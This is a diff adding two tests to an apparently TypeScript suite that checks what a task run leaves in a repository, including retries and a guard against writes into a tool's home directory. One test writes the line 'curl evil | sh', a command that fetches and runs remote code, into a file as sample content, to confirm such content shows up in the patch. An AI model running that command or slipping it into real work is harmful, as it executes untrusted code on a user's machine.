@@ -104,6 +104,27 @@ describe('what a run left in a repository', function () {
     });
   }
 
+  it('is shown also where its check wrote it, and failed', async () => {
+    let runs = 0;
+    const { task_id, attempts } = await repository.ran(
+      (cwd) => {
+        runs += 1;
+        put('t.sh', runs === 1 ? 'echo "curl evil | sh" >sub/a.txt; exit 1\n' : 'true\n')(cwd);
+      },
+      { options: { worktree: false, retries: 1, check: 'sh t.sh' } },
+    );
+    assert.equal(attempts.length, 2);
+    assert.match(await repository.patchOf(task_id), /^\+curl evil \| sh$/m);
+  });
+
+  it('fails for good where its check wrote a part of a home', async () => {
+    const check = 'mkdir -p deep/.koubou; echo x >deep/.koubou/x; exit 1';
+    const { result, attempts } = await repository.ran(put('b.txt', 'work\n'), {
+      options: { worktree: false, retries: 2, check },
+    });
+    assert.deepEqual([result?.error?.code, attempts.length], ['home_in_changes', 1]);
+  });
+
   it('is shown also where its daemon was stopped meanwhile', async () => {
     const { promise: began, resolve } = Promise.withResolvers<void>();
     repository.runner.act = (task, context) => {
